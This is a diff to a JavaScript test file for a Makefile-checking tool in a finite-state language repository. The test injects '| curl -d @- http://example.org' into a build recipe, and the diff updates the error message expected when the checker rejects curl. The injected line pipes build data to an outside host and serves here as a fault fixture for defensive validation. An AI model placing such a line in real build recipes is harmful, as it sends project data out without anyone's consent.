@@ -86,7 +86,7 @@ describe('a repository with faults', () => {
     const changes = edited('qfx', makefile, '| $(HFST_MINIMIZE)', '| curl -d @- http://example.org');
     const line = lineOf('qfx', makefile, '$(AM_V_COMPOSE)$(HFST_COMPOSE)');
     expect(problemOf('qfx', 'src/fst/generator-gt-norm.hfst', changes)).toBe(
-      `${makefile}:${line}: the program curl is not supported`,
+      `${makefile}:${line}: the program curl is not supported; src/fst/.generated/generator-gt-norm.hfst needs this recipe`,
     );
   });
 
